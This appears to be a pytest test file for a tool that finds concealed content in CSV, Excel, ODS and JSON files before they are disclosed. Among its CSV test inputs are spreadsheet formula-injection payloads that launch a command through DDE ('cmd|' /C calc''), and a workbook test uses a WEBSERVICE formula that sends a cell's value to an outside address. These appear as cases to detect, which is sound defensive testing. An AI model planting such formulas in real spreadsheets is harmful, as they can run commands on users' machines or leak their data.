"""What is found in files of every type: tables, texts, pictures, and what a person would not see."""

from __future__ import annotations

import io
import json
from typing import Any

import pytest
from tests.attack.files.hostile import ods, sheet, workbook

from saferoom.disclosure.files.model import Grid, Opened
from saferoom.disclosure.files.openers import OpenLimits, open_file
from saferoom.disclosure.verdict import Verdict


def opened(name: str, data: bytes | str, **limits: int) -> Opened:
    """Open a file."""
    return open_file(name, data.encode() if isinstance(data, str) else data, OpenLimits(**limits))[1]


def hidden(found: Opened) -> list[str]:
    """Return what is concealed, files inside included."""
    return [thing.what for thing in found.concealed] + [what for *_, inner in found.inner for what in hidden(inner)]


def texts(found: Opened) -> str:
    """Return all texts."""
    return "\n".join(passage.text for passage in found.passages)


def grid(found: Opened) -> Grid:
    """Return the only table."""
    (only,) = found.grids
    return only


# --- delimited text ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        b"region,n\nNorth,100\n",
        b"region;n\nNorth;100\n",
        b"region\tn\nNorth\t100\n",
        b"region|n\nNorth|100\n",
        b"sep=;\nregion;n\nNorth;100\n",
        b'"region","n"\r\n"North","100"\r\n',
        b"\xef\xbb\xbfregion,n\nNorth,100\n",
        "region,n\nNorth,100\n".encode("utf-16"),
        "region,n\nNorth,100\n".encode("utf-16-le"),
        "region,n\nNorth,100\n".encode("utf-32"),
    ],
)
def test_delimited_text_in_every_usual_form_gives_one_table(data: bytes) -> None:
    found = opened("a.csv", data)
    assert (grid(found).header, grid(found).rows) == (("region", "n"), (("North", "100"),))
    assert not found.concealed
    assert not found.findings


def test_row_numbers_are_those_people_see() -> None:
    assert grid(opened("a.csv", "a,b\nx,1\n")).first_row == 2
    assert grid(opened("a.csv", "1,2\n3,4\n")).first_row == 1


@pytest.mark.parametrize(
    "cell", ["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '=HYPERLINK("x")', " =1"]
)
def test_cell_that_a_spreadsheet_would_run_is_concealed(cell: str) -> None:
    found = opened("a.csv", 'region,n\n"' + cell.replace('"', '""') + '",100\n')
    assert [thing.place for thing in found.concealed] == ["row 2, column 1"]


@pytest.mark.parametrize(
    "cell", ["-5", "+1.2e-3", "-0.12*** (0.03)", "-", "+/-", "---", "=", "-12.5%", "- 3", "-inf", "+44 20 7946"]
)
def test_signed_numbers_and_dashes_are_no_formulas(cell: str) -> None:
    assert not opened("a.csv", f"region,n\n{cell},100\n").concealed


def test_more_cells_than_other_rows_are_concealed() -> None:
    assert hidden(opened("a.csv", "a,b\n1,2\n3,4,P001\n5,6\n"))


def test_rows_before_a_limit_are_kept_for_the_screens() -> None:
    found = opened("a.csv", "a,b\n" + "x,1\n" * 1_000, cells=500)
    assert found.findings[0].rule == "too-large"
    assert len(found.grids[0].rows) > 200


# --- workbooks --------------------------------------------------------------------------------------------------


def _book(**change: Any) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    page = book.active
    assert page is not None
    page.title = "Pay"
    for row in (["region", "n", "mean"], ["North", 120, 12.5], ["South", 140, 13.25]):
        page.append(row)
    for name, act in change.items():
        assert name
        act(book, page)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_plain_workbook_gives_its_table_and_hides_nothing() -> None:
    found = opened("a.xlsx", _book())
    assert grid(found) == Grid("sheet 'Pay'", ("region", "n", "mean"), (("North", 120, 12.5), ("South", 140, 13.25)), 2)
    assert not found.concealed
    assert not found.findings


def _hide_row(_: Any, page: Any) -> None:
    page.row_dimensions[3].hidden = True


def _hide_column(_: Any, page: Any) -> None:
    page.column_dimensions["C"].hidden = True


def _zero_width(_: Any, page: Any) -> None:
    page.column_dimensions["B"].width = 0.01


def _comment(_: Any, page: Any) -> None:
    from openpyxl.comments import Comment

    page["B2"].comment = Comment("P001", "x")


def _second(state: str) -> Any:
    def act(book: Any, _: Any) -> None:
        other = book.create_sheet("Other")
        other.append(["id", 1])
        other.sheet_state = state

    return act


def _name(book: Any, _: Any) -> None:
    from openpyxl.workbook.defined_name import DefinedName

    book.defined_names["x"] = DefinedName("x", attr_text='"P001"')


def _no_format(_: Any, page: Any) -> None:
    page["B2"].number_format = ";;;"


def _white(_: Any, page: Any) -> None:
    from openpyxl.styles import Font

    page["B2"].font = Font(color="FFFFFFFF")


def _validation(_: Any, page: Any) -> None:
    from openpyxl.worksheet.datavalidation import DataValidation

    rule = DataValidation(type="list", formula1='"P001,P002"')
    page.add_data_validation(rule)
    rule.add("D1")


def _web(_: Any, page: Any) -> None:
    page["D2"] = '=WEBSERVICE("http://x/?"&A1)'


def _property(book: Any, _: Any) -> None:
    from openpyxl.packaging.custom import StringProperty

    book.custom_doc_props.append(StringProperty(name="ids", value="P001"))


@pytest.mark.parametrize(
    ("act", "what"),
    [
        (_hide_row, "hidden rows (3)"),
        (_hide_column, "hidden columns (C)"),
        (_zero_width, "hidden columns (B)"),
        (_comment, "comments on cells"),
        (_second("hidden"), "a hidden sheet"),
        (_second("veryHidden"), "a sheet hidden so that no menu shows it"),
        (_name, "a defined name"),
        (_no_format, "cells whose format shows nothing (B2)"),
        (_white, "cells whose format shows nothing (B2)"),
        (_validation, "the list or rule of a validation"),
        (_web, "a formula that reaches out of the file"),
        (_property, "custom document properties"),
    ],
)
def test_what_a_workbook_hides_is_found_and_grave(act: Any, what: str) -> None:
    found = opened("a.xlsx", _book(act=act))
    assert (what, Verdict.FAIL) in {(thing.what, thing.severity) for thing in found.concealed}


def test_white_text_on_a_dark_cell_is_visible() -> None:
    def act(_: Any, page: Any) -> None:
        from openpyxl.styles import Font, PatternFill

        page["A1"].font = Font(color="FFFFFFFF")
        page["A1"].fill = PatternFill("solid", fgColor="FF000080")

    assert not hidden(opened("a.xlsx", _book(act=act)))


def test_hidden_row_without_content_hides_nothing() -> None:
    def act(_: Any, page: Any) -> None:
        page.row_dimensions[50].hidden = True

    assert not hidden(opened("a.xlsx", _book(act=act)))


def test_dates_of_a_workbook_are_read_as_dates() -> None:
    def act(_: Any, page: Any) -> None:
        import datetime

        page["D2"] = datetime.date(2020, 1, 2)
        page["D3"] = datetime.datetime(2020, 1, 2, 3, 4)  # noqa: DTZ001 - as spreadsheets keep it

    rows = grid(opened("a.xlsx", _book(act=act))).rows
    assert [row[3] for row in rows] == ["2020-01-02", "2020-01-02 03:04:00"]


@pytest.mark.parametrize(
    ("part", "data", "what"),
    [
        (
            "xl/pivotCache/pivotCacheRecords1.xml",
            b"<x><r><s v='P001'/><n v='12'/></r></x>",
            "all records behind a pivot table",
        ),
        ("xl/pivotCache/pivotCacheDefinition1.xml", b"<x><s v='P001'/></x>", "the categories behind a pivot table"),
        ("xl/connections.xml", b"<x c='Server=db'/>", "a data connection"),
        ("xl/embeddings/oleObject1.bin", b"id,pay\nP001,12\n", "an embedded file or object"),
        ("xl/model/item.data", b"x", "a data model with all its records"),
        ("customXml/item1.xml", b"<x>P001</x>", "custom XML data"),
        ("xl/revisions/revisionLog1.xml", b"<x>P001</x>", "the history of changes"),
        ("docProps/custom.xml", b"<x>P001</x>", "custom document properties"),
        ("xl/strange.bin", b"x", "a part that workbooks do not have"),
    ],
)
def test_part_of_a_workbook_that_nobody_sees_is_concealed(part: str, data: bytes, what: str) -> None:
    found = opened("a.xlsx", workbook(sheet('<row r="1"><c r="A1"><v>100</v></c></row>'), **{part: data}))
    assert what in hidden(found)


def test_records_behind_a_pivot_table_become_a_table_for_the_screens() -> None:
    part = {"xl/pivotCache/pivotCacheRecords1.xml": b"<x><r><s v='P001'/><n v='12'/></r></x>"}
    found = opened("a.xlsx", workbook(sheet(""), **part))
    assert grid(found).rows == (("P001", 12),)


def test_texts_left_over_from_deleted_cells_are_found() -> None:
    strings = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>P001</t></si></sst>'
    found = opened("a.xlsx", workbook(sheet(""), **{"xl/sharedStrings.xml": strings}))
    assert "texts that no cell shows any more (left over from deleted cells)" in hidden(found)
    assert "P001" in texts(found)


def test_cells_under_merged_cells_are_found() -> None:
    rows = '<row r="1"><c r="A1"><v>100</v></c><c r="B1"><v>3</v></c></row>'
    merged = sheet(rows).replace(b"</sheetData>", b'</sheetData><mergeCells><mergeCell ref="A1:B1"/></mergeCells>')
    assert hidden(opened("a.xlsx", workbook(merged))) == ["cells with content under merged cells"]


@pytest.mark.parametrize(
    "rows",
    [
        '<row r="1"><c r="A1" t="inlineStr"><is><t>a &amp; b</t></is></c><c r="C1"><v>1.5</v></c></row>',
        '<row r="2" spans="1:2" ht="15"><c r="B2" t="b"><v>1</v></c><c r="C2" t="str"><f>A1&amp;"x"</f><v>y</v></c></row>',  # noqa: E501
        '<row r="1"><c r="A1"><v>1</v></c></row><row r="4"><c r="A4"><v>2</v></c></row><row r="900"><c r="B900"/></row>',  # noqa: E501
        '<row r="1" hidden="1"><c r="A1" t="e"><v>#DIV/0!</v></c><c r="A1"><v>7</v></c></row><row/>',
    ],
)
def test_quick_path_and_parser_read_sheets_alike(rows: str) -> None:
    plain = sheet(rows)
    slow = plain.replace(b"<sheetData>", b"<sheetData><!-- not plain -->")
    assert opened("a.xlsx", workbook(plain)) == opened("a.xlsx", workbook(slow))


# --- ODS --------------------------------------------------------------------------------------------------------


def _cell(value: object) -> str:
    return f'<table:table-cell office:value-type="float" office:value="{value}"><text:p>{value}</text:p></table:table-cell>'  # noqa: E501


def test_spreadsheet_gives_its_table_and_what_it_hides() -> None:
    columns = '<table:table-column/><table:table-column table:visibility="collapse"/>'
    rows = (
        "<table:table-row><table:table-cell><text:p>a</text:p></table:table-cell><table:table-cell><text:p>b</text:p>"
        f"</table:table-cell></table:table-row><table:table-row>{_cell(100)}{_cell(120)}</table:table-row>"
        f'<table:table-row table:visibility="collapse">{_cell(3)}<table:table-cell><office:annotation><text:p>P001'
        "</text:p></office:annotation></table:table-cell></table:table-row>"
    )
    found = opened("a.ods", ods(f'<table:table table:name="S">{columns}{rows}</table:table>'))
    assert grid(found).header == ("a", "b")
    assert grid(found).rows == ((100, 120), (3,))
    assert set(hidden(found)) == {"hidden columns", "hidden rows (1)", "comments on cells"}
    assert "P001" in texts(found)


def test_names_of_people_as_keys_are_no_places() -> None:
    document = {"results": {"Ada Lovelace": {"visits": [[1, 2], [3, 4]]}, "summary": {"text": "x" * 300}}}
    opened = open_file("a.json", json.dumps(document).encode())[1]
    places = " ".join([grid.place for grid in opened.grids] + [passage.place for passage in opened.passages])
    assert "Ada" not in places
    assert "'results'" in places
